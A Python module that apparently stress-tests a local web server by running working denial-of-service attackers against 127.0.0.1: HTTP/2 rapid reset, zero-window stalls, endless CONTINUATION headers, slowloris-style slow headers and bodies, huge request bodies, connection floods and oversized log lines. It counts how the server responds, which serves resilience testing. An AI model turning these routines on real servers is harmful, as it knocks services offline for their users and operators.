"""Attacks below HTTP's good manners: connections that come directly, from addresses of their own, and do not play along.

Each function is one attacker. It runs until `stop` is set, keeps what it opened within a bound, and counts what it met.
That the server cuts it off is what it may do; an attacker begins again.
"""
import socket
import threading
import time

import http2

SOURCES = [f"127.0.1.{number}" for number in range(1, 9)]


class Raw:
    def __init__(self, port, large, stop, counts):
        self.address = ("127.0.0.1", port)
        self.large = large
        self.stop = stop
        self.counts = counts

    def count(self, attack, what):
        self.counts[f"{attack}: {what}"] += 1

    def connect(self, number, timeout=5, buffer=None):
        connection = socket.socket()
        if buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        connection.settimeout(timeout)
        connection.bind((SOURCES[number % len(SOURCES)], 0))
        connection.connect(self.address)
        return connection

    def again(self, attack, rounds, pause=0.2):
        """Runs one round of an attack after the other."""
        number = 0
        while not self.stop.is_set():
            try:
                rounds(number)
                self.count(attack, "rounds")
            except OSError:
                self.count(attack, "cut off")
            number += 1
            self.stop.wait(pause)

    def zero_window(self, number):
        """A hundred streams of one connection ask for the largest file and open no window for it, or one byte a second."""
        def round_(turn):
            connection = http2.connect(self.address, SOURCES[number % len(SOURCES)], window=0)
            with connection:
                connection.sendall(b"".join(http2.request(stream, self.large) for stream in range(1, 200, 2)))
                until = time.monotonic() + 20
                while time.monotonic() < until and not self.stop.wait(1):
                    if (number + turn) % 2:
                        connection.sendall(b"".join(http2.window_update(stream, 1) for stream in range(1, 200, 2)))
                    else:
                        connection.sendall(http2.frame(http2.PING, 0, 0, b"stillme!"))
        self.again("HTTP/2 without a window", round_)

    def rapid_reset(self, number):
        """Streams that are opened and given up at once."""
        def round_(_):
            with http2.connect(self.address, SOURCES[number % len(SOURCES)]) as connection:
                stream = 1
                while stream < 8000 and not self.stop.is_set():
                    connection.sendall(b"".join(
                        http2.request(each, self.large) + http2.reset(each) for each in range(stream, stream + 100, 2)))
                    stream += 100
                    time.sleep(0.05)
        self.again("HTTP/2 streams reset at once", round_)

    def endless_headers(self, number):
        """A header block that never ends."""
        def round_(_):
            with http2.connect(self.address, SOURCES[number % len(SOURCES)]) as connection:
                connection.sendall(http2.request(1, "/", flags=http2.END_STREAM))
                more = b"\x00" + http2.text("x-more") + http2.text("a" * 8000)
                for _ in range(2000):
                    if self.stop.is_set():
                        break
                    connection.sendall(http2.frame(http2.CONTINUATION, 0, 1, more))
                    time.sleep(0.01)
        self.again("HTTP/2 headers without an end", round_)

    def pipeline(self, number):
        """Thousands of requests on one connection whose answers nobody reads."""
        many = f"GET {self.large} HTTP/1.1\r\nHost: school\r\n\r\n".encode() * 200

        def round_(turn):
            with self.connect(number + turn, timeout=15, buffer=4096) as connection:
                for _ in range(20):
                    if self.stop.is_set():
                        break
                    connection.sendall(many)
                self.stop.wait(10)
        self.again("requests without reading", round_)

    def slow(self, attack, starts, count):
        """Many connections that each send a byte a second of something that has begun in one of these ways."""
        def round_(turn):
            held = []
            try:
                for number in range(count):
                    if self.stop.is_set():
                        break
                    connection = self.connect(number + turn)
                    connection.sendall(starts[number % len(starts)])
                    held.append(connection)
                until = time.monotonic() + 60
                while held and time.monotonic() < until and not self.stop.wait(1):
                    for connection in list(held):
                        try:
                            connection.send(b"a")
                        except OSError:
                            self.count(attack, "cut off")
                            connection.close()
                            held.remove(connection)
            finally:
                for connection in held:
                    connection.close()
        self.again(attack, round_)

    def slow_heads(self, count):
        self.slow("slow heads", [b"GET /api/health HTTP/1.1\r\nHost: school\r\nX-Slow: "], count)

    def slow_bodies(self, count):
        head = b"POST /api/auth/login HTTP/1.1\r\nHost: school\r\nContent-Type: application/json\r\n"
        email = b"{\"email\": \""
        # Some send more than is read before the operation runs, some wait for leave to send.
        self.slow("slow bodies", [
            head + b"Content-Length: 300\r\n\r\n" + email,
            head + b"Content-Length: 60000\r\n\r\n" + email,
            head + b"Content-Length: 60000\r\n\r\n" + email + b"a" * 20_000,
            head + b"Content-Length: 300\r\nExpect: 100-continue\r\n\r\n" + email,
            head + b"Transfer-Encoding: chunked\r\n\r\n4000\r\n" + email + b"a" * 12_000,
        ], count)

    def huge_bodies(self, number):
        """A body that is announced as large, or that has no announced end."""
        attack = "huge bodies"
        block = b"a" * 65536
        chunk = b"10000\r\n" + block + b"\r\n"

        def round_(turn):
            chunked = (number + turn) % 2
            length = b"Transfer-Encoding: chunked" if chunked else b"Content-Length: 4000000000"
            path = (b"/api/auth/login", b"/api/materials", b"/api/users/me/avatar", b"/v1/materials")[turn % 4]
            with self.connect(number + turn) as connection:
                connection.sendall(b"POST " + path + b" HTTP/1.1\r\nHost: school\r\nContent-Type: application/json\r\n" + length + b"\r\n\r\n")
                for _ in range(1000):
                    if self.stop.is_set():
                        break
                    connection.sendall(chunk if chunked else block)
                    time.sleep(0.01)
                # Who takes 60 MB of a body that nobody may send has not refused it.
                self.count(attack, "taken whole" if not self.stop.is_set() else "ended")
        self.again(attack, round_)

    def flood(self, count):
        """Connections that are opened by the hundred, say nothing, and go."""
        def round_(turn):
            held = []
            try:
                for number in range(count):
                    if self.stop.is_set():
                        break
                    held.append(self.connect(number + turn))
                self.stop.wait(5)
            finally:
                for connection in held:
                    connection.close()
        self.again("connections without a word", round_)

    def long_lines(self, number):
        """Paths, names of programs and referrers that would fill the log."""
        attack = "long lines"

        def round_(turn):
            size = (2000, 7000, 15000, 60000)[turn % 4]
            with self.connect(number + turn) as connection:
                head = (f"GET /api/{'p' * size}?{'q' * size} HTTP/1.1\r\nHost: school\r\nUser-Agent: {'u' * size}\r\n"
                        f"Referer: {'r' * size}\r\nX-Request-Id: {'i' * size}\r\nConnection: close\r\n\r\n")
                connection.sendall(head.encode())
                status = connection.recv(4096).split(b" ")[1:2]
                self.count(attack, status[0].decode() if status else "closed")
        self.again(attack, round_, pause=0.1)


def start(port, large, stop, counts, full, only):
    """Starts all of them; `full` is how many connections of the idle kinds there are."""
    raw = Raw(port, large, stop, counts)
    kinds = [(raw.zero_window, range(16)), (raw.pipeline, range(16)), (raw.rapid_reset, range(4)), (raw.endless_headers, range(2)),
             (raw.huge_bodies, range(4)), (raw.slow_heads, [full]), (raw.slow_bodies, [full]), (raw.flood, [2 * full]),
             (raw.long_lines, range(2))]
    for attack, arguments in kinds:
        for argument in arguments:
            if not only or attack.__name__ in only:
                threading.Thread(target=attack, args=(argument,), daemon=True).start()
